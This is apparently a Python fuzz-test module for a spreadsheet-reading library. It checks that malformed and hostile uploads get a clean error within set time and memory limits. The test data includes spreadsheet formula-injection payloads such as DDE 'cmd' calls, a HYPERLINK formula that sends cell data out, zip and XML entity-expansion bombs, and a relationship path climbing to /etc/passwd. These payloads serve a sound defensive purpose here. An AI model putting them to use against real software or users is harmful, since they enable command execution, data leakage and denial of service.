"""Sheets that nobody should send, and the promise about each: a clear answer in little time and memory.

The tests walk some of them; `python -m odop.lib.tests.hostile_sheets 1000` walks as many as it is told.
"""

import gzip
import io
import json
import resource
import struct
import sys
import tempfile
import time
import zipfile
from collections import Counter
from datetime import date, datetime
from functools import cache
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from odop.lib.sheets import Limits, SheetError, read_sheet, write_marked
from odop.lib.tests import sheet_files as files

LIMITS = Limits(memory=512 * 2**20, cpu_seconds=20, seconds=60, unpacked_size=256 * 2**20)
CODES = {
    "too_large", "bomb", "too_many_columns", "too_many_rows", "encrypted", "wrong_kind", "not_a_sheet", "damaged",
    "empty", "no_header", "no_such_sheet", "takes_too_long", "takes_too_much_memory", "unsafe_xml",
}  # fmt: skip
LIVE = ["=1+1", "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1",
        '=HYPERLINK("http://x.invalid/?"&A1,"x")', "=WEBSERVICE(A1)", "＝1+1", "%0A=1", "|cmd", '"=1"', "'=1",
        "_x003D_1+1", "<f>1</f>", "]]>", "&#61;1+1", "\n=DDE(\"cmd\",\"/c\",\"1\")"]  # fmt: skip
HEAD = ["Name", "Father", "Mobile", "Village"]

texts = st.one_of(
    st.sampled_from(LIVE),
    st.text(max_size=30),
    st.sampled_from(
        ["सुनीता", "lquhrk", "1.23457E+11", "12/03/80", "", " ", "a\x00b", "\ud7ff\ufffe", "x" * 40_000]
    ),
)
cells = st.one_of(
    texts, st.none(), st.integers(-(10**18), 10**18), st.floats(allow_nan=False, allow_infinity=False)
)
tables = st.lists(st.lists(cells, max_size=6), max_size=12).map(lambda rows: [HEAD, *rows])


def _clean(table: files.Table) -> list[list[object]]:
    """Without signs XML cannot hold: those are for the CSV."""
    return [
        [
            "".join(sign for sign in cell if sign.isprintable() or sign in "\t\n\r")
            if isinstance(cell, str)
            else cell
            for cell in row
        ]
        for row in table
    ]


@st.composite
def _books(draw: st.DrawFn) -> bytes:
    table = _clean(draw(tables))
    return draw(st.sampled_from([files.xlsx, files.ods, files.xlsb, files.xls]))(table)


@st.composite
def _texts(draw: st.DrawFn) -> bytes:
    sign = draw(st.sampled_from([",", ";", "\t", "|"]))
    end = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    quote = draw(st.sampled_from(["", '"', '""', '"x']))
    lines = [sign.join(quote + ("" if cell is None else str(cell)) for cell in row) for row in draw(tables)]
    encoding = draw(
        st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252", "latin-1", "utf-7"])
    )
    return end.join(lines).encode(encoding, "replace")


@st.composite
def _tampered(draw: st.DrawFn) -> bytes:
    """Cut off somewhere, or with bytes changed."""
    content = bytearray(draw(st.one_of(_books(), _texts())))
    if draw(st.booleans()):
        return bytes(content[: draw(st.integers(0, len(content)))])
    for _ in range(draw(st.integers(1, 8))):
        if content:
            content[draw(st.integers(0, len(content) - 1))] = draw(st.integers(0, 255))
    return bytes(content)


SHEET = "xl/worksheets/sheet1.xml"
_PLAIN = files.xlsx([HEAD, *[[f"n{row}", "f", 9_876_543_210, "v"] for row in range(200)]])
_END = b"</sheetData>"


def _bomb(size: int, ratio_parts: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_PLAIN)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        for number in range(ratio_parts):
            new.writestr(f"xl/media/{number}.bin", b"0" * size)
    return out.getvalue()


def _lying(content: bytes, part: str = SHEET, size: int = 100) -> bytes:
    """The directory at the end of the zip says that a part is small."""
    place = content.rindex(part.encode()) - 46 + 24
    return content[:place] + struct.pack("<I", size) + content[place + 4 :]


def _laughs(part: str) -> bytes:
    entities = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    doctype = b'<!DOCTYPE x [<!ENTITY l0 "ha">' + entities + b"]>"
    with zipfile.ZipFile(io.BytesIO(_PLAIN)) as packed:
        old = packed.read(part)
    start = old.index(b"?>") + 2
    changed = old[:start] + doctype + old[start:].replace(b"n1<", b"&l9;<", 1)
    return files.repacked(_PLAIN, changed={part: changed})


def _shared(count: str, items: bytes) -> bytes:
    """Shared strings whose declared number is a lie."""
    strings = f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{count}" uniqueCount="{count}">'
    content = files.with_xml(
        _PLAIN, _END, b'<row r="900"><c r="A900" t="s"><v>4000000000</v></c></row>' + _END
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    link = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    content = files.with_xml(
        content,
        b"</Types>",
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'.encode(),
        "[Content_Types].xml",
    )
    content = files.with_xml(
        content,
        b"</Relationships>",
        f'<Relationship Id="rIdT" Type="{link}" Target="sharedStrings.xml"/></Relationships>'.encode(),
        "xl/_rels/workbook.xml.rels",
    )
    return files.repacked(content, changed={"xl/sharedStrings.xml": strings.encode() + items + b"</sst>"})


def _ole_lies(place: int, value: int) -> bytes:
    content = bytearray(files.xls([HEAD, ["a", "b", 1, "c"]]))
    content[place : place + 4] = struct.pack("<I", value)
    return bytes(content)


def _merged(*ranges: str) -> bytes:
    said = "".join(f'<mergeCell ref="{one}"/>' for one in ranges).encode()
    return files.with_xml(_PLAIN, _END, _END + b"<mergeCells>" + said + b"</mergeCells>")


def _nested(depth: int) -> bytes:
    content = _PLAIN
    for _ in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
            for copy in range(3):
                packed.writestr(f"{copy}.xlsx", content)
        content = out.getvalue()
    return content


def _row(inner: str, row: int = 999) -> bytes:
    return files.with_xml(_PLAIN, _END, f'<row r="{row}">{inner}</row>'.encode() + _END)


def _many_parts(count: int) -> bytes:
    return files.repacked(_PLAIN, **{f"x{number}.xml": b"" for number in range(count)})


def _locked_zip() -> bytes:
    content = bytearray(_PLAIN)
    at = content.index(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


_FORMULA = '<c r="A999"><f>SUM(A1:A9)</f>{}</c><c r="B999" t="str"><f>cmd|\'/c calc\'!A0</f><v>=1+1</v></c>'
NAMED = {
    "formula with result": lambda: _row(_FORMULA.format("<v>5</v>")),
    "formula without result": lambda: _row(_FORMULA.format("")),
    "error cell": lambda: _row('<c r="A999" t="e"><v>#REF!</v></c>'),
    "array formula": lambda: _row('<c r="A999"><f t="array" ref="A999:XFD1048576">1</f><v>1</v></c>'),
    "merged whole sheet": lambda: _merged("A1:XFD1048576"),
    "merged head": lambda: _merged("A1:D1", "A1:B2", "A3:A100"),
    "merged upside down": lambda: _merged("D9:A1", "A2:A1"),
    "merged nonsense": lambda: _merged("XYZ", "A0:A9", "A1:A99999999999"),
    "merged ten thousand": lambda: _merged(*[f"A{row}:D{row + 3}" for row in range(2, 10_002)]),
    "16,384 columns": lambda: files.xlsx([["c"] * 16_384, ["v"] * 16_384]),
    "16,384 columns of CSV": lambda: (",".join(["c"] * 16_384) + "\n" + ",".join(["v"] * 16_384)).encode(),
    "a cell far right": lambda: _row('<c r="XFD999"><v>1</v></c>'),
    "a cell far down": lambda: _row('<c r="A1048576"><v>1</v></c>', 1_048_576),
    "a cell beyond": lambda: _row('<c r="ZZZZZZ999"><v>1</v></c>'),
    "a row beyond": lambda: _row('<c r="A99999999999999"><v>1</v></c>', 99_999_999_999_999),
    "a cell nowhere": lambda: _row('<c r=""><v>1</v></c><c><v>2</v></c>'),
    "numbers that are none": lambda: _row('<c r="A999"><v>1e999</v></c><c r="B999"><v>NaN</v></c><c r="C999"><v>x</v></c>'),
    "dates that are none": lambda: _row('<c r="A999" s="3"><v>99999999</v></c><c r="B999" s="3"><v>-5</v></c>'),
    "huge cell": lambda: files.xlsx([HEAD, ["x" * 32_768, "y", 1, "z"]]),
    "huge cell of CSV": lambda: ("a,b\n" + "x" * 5_000_000 + ",y\n").encode(),
    "huge inline cell": lambda: _row(f'<c r="A999" t="inlineStr"><is><t>{"x" * 20_000_000}</t></is></c>'),
    "one endless line": lambda: b"x" * 30_000_000,
    "endless quotes": lambda: b'"' * 300_000 + b"\n" + b'",' * 100_000,
    "an open quote above all": lambda: ('a,b,c\n1,"2,3\n' + "4,5,6\n" * 50_000).encode(),
    "an open quote in each row": lambda: ("a,b,c\n" + '1,"2,3\n' * 20_000).encode(),
    "zeros": lambda: b"\x00" * 1_000_000,
    "zeros within": lambda: b"a,b,c\n1,2,3\n" * 20_000 + b"\x00\x00\x00,1,2\n",
    "bomb of one part": lambda: _bomb(64 * 2**20),
    "bomb of many parts": lambda: _bomb(2**20, 60),
    "bomb that lies": lambda: _lying(files.repacked(_PLAIN, changed={SHEET: b"<worksheet><sheetData>" + b" " * (64 * 2**20)})),
    "bomb of spaces": lambda: files.with_xml(_PLAIN, _END, b" " * (30 * 2**20) + _END),
    "nested": lambda: _nested(4),
    "3,000 parts": lambda: _many_parts(3_000),
    "billion laughs in the sheet": lambda: _laughs(SHEET),
    "billion laughs in the book": lambda: _laughs("xl/workbook.xml"),
    "shared strings that lie": lambda: _shared("4294967295", b"<si><t>a</t></si>"),
    "shared strings cut": lambda: _shared("2", b"<si><t>a"),
    "macros": lambda: files.repacked(_PLAIN, changed={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"x" * 500}),
    "outer links": lambda: files.repacked(_PLAIN, changed={"xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"}),
    "no sheet in the book": lambda: files.repacked(_PLAIN, changed={SHEET: None}),
    "no book": lambda: files.repacked(_PLAIN, changed={"xl/workbook.xml": None}),
    "no styles": lambda: files.repacked(_PLAIN, changed={"xl/styles.xml": None}),
    "path that climbs": lambda: files.with_xml(
        _PLAIN, b'Target="worksheets/sheet1.xml"', b'Target="../../../../etc/passwd"', "xl/_rels/workbook.xml.rels"
    ),
    "locked zip": _locked_zip,
    "locked by Office": lambda: files.ole({"EncryptedPackage": b"x" * 5_000, "EncryptionInfo": b"\x04\x00\x04\x00"}),
    "locked Excel 97": lambda: files.xls([HEAD], locked=True),
    "Word 97": lambda: files.ole({"WordDocument": b"x" * 5_000}),
    "OLE of nothing": lambda: files.ole({"Contents": b"x"}),
    "OLE too many tables": lambda: _ole_lies(44, 0xFFFFFFF0),
    "OLE too many tables of tables": lambda: _ole_lies(72, 0xFFFFFFF0),
    "OLE in a circle": lambda: _ole_lies(512 + 8, 2),
    "OLE far stream": lambda: _ole_lies(1024 + 128 + 120, 0x7FFFFFFF),
    "ODS repeated": lambda: _ods_repeated(),
    "picture": lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(range(256)) * 40,
    "PNG": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "PDF": lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
    "HTML called xls": lambda: b"<html xmlns:x='urn:schemas-microsoft-com:office:excel'><table><tr><td>Name</td></tr></table></html>",
    "HTML table": lambda: b"\xef\xbb\xbf\r\n <TABLE border=1><tr><td>Name</td></tr></TABLE>",
    "XML sheet of 2003": lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook></Workbook>',
    "docx": lambda: files.repacked(_PLAIN, changed={"word/document.xml": b"<w/>", "xl/workbook.xml": None}),
    "zip": lambda: files.repacked(_PLAIN, changed={"xl/workbook.xml": None}),
    "gzip": lambda: gzip.compress(b"a,b\n1,2\n"),
    "RTF": lambda: b"{\\rtf1 a}",
    "program": lambda: b"MZ\x90\x00\x03" + bytes(range(256)) * 4,
    "empty": lambda: b"",
    "only spaces": lambda: b" \r\n\r\n ,,, \n",
    "only a title": lambda: b"List of artisans\n",
    "only numbers": lambda: b"1,2,3\n4,5,6\n7,8,9\n",
    "sep line": lambda: b"sep=;\na;b\n1;2\n",
    "deep nesting": lambda: files.with_xml(_PLAIN, _END, b"<a>" * 200_000 + _END),
    "attributes": lambda: files.with_xml(_PLAIN, b"<sheetData>", b"<sheetData " + b" ".join(b'a%d="1"' % n for n in range(100_000)) + b">"),
}  # fmt: skip


def _ods_repeated() -> bytes:
    content = files.ods([HEAD, ["a", "b", 1, "c"]])
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        old = packed.read("content.xml")
    many = (
        b'<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated='
        b'"16384" office:value-type="float" office:value="1"/></table:table-row></table:table>'
    )
    return files.repacked(content, changed={"content.xml": old.replace(b"</table:table>", many)})


@cache
def named(name: str) -> bytes:
    """The content of one of the sheets above."""
    return NAMED[name]()


hostile = st.one_of(
    _books(),
    _texts(),
    _tampered(),
    st.sampled_from(sorted(NAMED)).map(named),
    st.binary(max_size=2_000),
)


def answer(content: bytes) -> str:
    """Returns the code of the error, or "sheet"; raises AssertionError when the promise is broken."""
    with tempfile.TemporaryDirectory() as folder:
        path = files.saved(Path(folder), content, "list.xls")
        began = time.monotonic()
        try:
            with read_sheet(path, filename="../../list.xls", limits=LIMITS) as sheet:
                rows = list(sheet.rows())
                columns = sheet.columns
                assert len(rows) == sheet.row_count
        except SheetError as error:
            assert error.code in CODES, error
            return error.code
        finally:
            assert time.monotonic() - began < LIMITS.seconds
        last = sheet.header_row
        for row in rows:
            assert row.number > last
            assert len(row.cells) == len(columns)
            last = row.number
            for cell in row.cells:
                assert cell is None or isinstance(cell, str | int | float | bool | date | datetime)
                assert not isinstance(cell, str) or (len(cell) <= 32_767 and "\x00" not in cell)
        _given_back_dead(columns, rows[:200])
        return "sheet"


def _given_back_dead(columns: tuple, rows: list) -> None:  # type: ignore[type-arg]
    out = io.BytesIO()
    problems = {(row.number, column.letter): "=1+1" for row in rows for column in columns[:3]}
    write_marked(out, columns, rows, problems, problem_title="=1", row_title="Row", above=["=1+1"])
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as packed:
        assert b"<f>" not in packed.read(SHEET)
    book = load_workbook(io.BytesIO(out.getvalue()))
    sheet = book.worksheets[0]
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and cell.value[:1] in set("=+-@\t\r"):
                assert cell.quotePrefix


def walk(examples: int) -> Counter[str]:
    """Reads so many hostile sheets and returns how often each answer came."""
    found: Counter[str] = Counter()

    @settings(
        max_examples=examples, deadline=None, derandomize=True, database=None, suppress_health_check=list(HealthCheck)
    )  # fmt: skip
    @given(hostile)
    def reads(content: bytes) -> None:
        found[answer(content)] += 1

    reads()
    return found


if __name__ == "__main__":
    started = time.monotonic()
    answers = walk(int(sys.argv[1]))
    found = {
        "seconds": round(time.monotonic() - started),
        "largest_child_kb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss,
        "answers": dict(answers.most_common()),
    }
    print(json.dumps(found, indent=1))  # noqa: T201
